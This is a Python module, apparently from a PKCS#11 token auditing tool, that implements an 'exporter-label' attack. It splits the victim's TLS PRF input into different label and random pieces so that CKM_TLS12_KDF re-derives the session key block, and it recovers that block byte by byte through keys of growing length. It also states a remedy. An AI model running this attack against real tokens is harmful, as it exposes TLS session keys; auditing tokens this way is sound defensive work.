"""exporter-label: CKM_TLS12_KDF exports under any label, also TLS's own, and hashes label and randoms as one string."""

from collections.abc import Iterable, Iterator, Sequence

from keyfence.cryptoki import Mechanism
from keyfence.cryptoki.constants import CKM
from keyfence.cryptoki.params import TlsKdf
from keyfence.cryptoki.session import secret_key
from keyfence.cryptoki.values import Template

from .base import Attack, Technique
from .prefix_growth import Asked, DerivedStreamAttack
from .victim import Kind, Victim

_RANDOM = 32


class ExporterLabel(Technique):
    id = "exporter-label"
    title = "Exporters under TLS's own labels"
    summary = (
        'CKM_TLS12_KDF derives PRF(master, label + client_random + server_random). With the label "key expansion" and the '
        'randoms swapped that is the key block. The PRF sees one string: "k" as the label and the rest as a random of another '
        "length is the same string, and no forbidden label was named. Where the derived key cannot be read, keys of 1, 2, 3 … "
        "bytes are prefixes of the key block and tell it byte by byte."
    )
    section = 'PKCS#11 3.2 §6.40.8 (CKM_TLS_KDF: "the token does not enforce this behavior" about labels)'
    references = ("RFC 5705 §4", "RFC 5246 §6.3 and §8.1", "RFC 2246 §6.3")
    remedy = (
        "Judge the whole string label + client_random + server_random + context, with randoms of 32 bytes: refuse what begins "
        "like a label of TLS's own, and give a reserved string its one type, length and protection."
    )
    kinds = frozenset({Kind.TLS10, Kind.TLS12, Kind.SEPARATED})

    def attacks(self, victim: Victim) -> Iterable[Attack]:
        mechanisms = [CKM.TLS_KDF] if victim.kind is Kind.TLS10 else [CKM.TLS12_KDF, CKM.TLS_KDF]
        return [ExporterLabelAttack(victim, int(mechanism)) for mechanism in mechanisms]


class ExporterLabelAttack(DerivedStreamAttack):
    """The victim's own PRF input, cut into label, client random and server random at several places."""

    def asked(self) -> Sequence[Asked]:
        return [self._asked(*parts) for parts in self._splits()]

    def templates(self) -> Iterator[tuple[str, Template]]:
        """A separated label goes with one key type: first that type, asked to be readable, then any."""
        if self.victim.kind is Kind.SEPARATED:
            own = (self.target.key_type, self.target.length)
            yield "the label's key type, CKA_SENSITIVE=FALSE", secret_key(*own, sensitive=False, extractable=True)
            yield "the label's key type, no CKA_SENSITIVE", secret_key(*own)
        yield from super().templates()

    def _splits(self) -> Iterator[tuple[bytes, bytes, bytes]]:
        whole, label = self.target.input, len(self.target.label)
        yield whole[:label], whole[label : label + _RANDOM], whole[label + _RANDOM :]
        for at in (1, label - 1, label + 1):
            yield whole[:at], whole[at:-_RANDOM], whole[-_RANDOM:]
        yield whole[:-_RANDOM], b"", whole[-_RANDOM:]
        yield whole, b"", b""

    def _asked(self, label: bytes, client: bytes, server: bytes) -> Asked:
        parameters = TlsKdf(self._prf, label, client, server)
        text = f'"{label.decode("ascii")}"' if label == self.target.label else f"{len(label)} bytes"
        lengths = f"randoms of {len(client)} and {len(server)} bytes"
        return Asked(f"C_DeriveKey({self.name}, label {text}, {lengths}", Mechanism(self.mechanism, parameters))

    @property
    def _prf(self) -> int:
        """CKM_TLS_PRF for a hash means TLS 1.0's PRF."""
        return int(CKM.TLS_PRF if self.victim.kind is Kind.TLS10 else self.target.prf_hash.ckm)
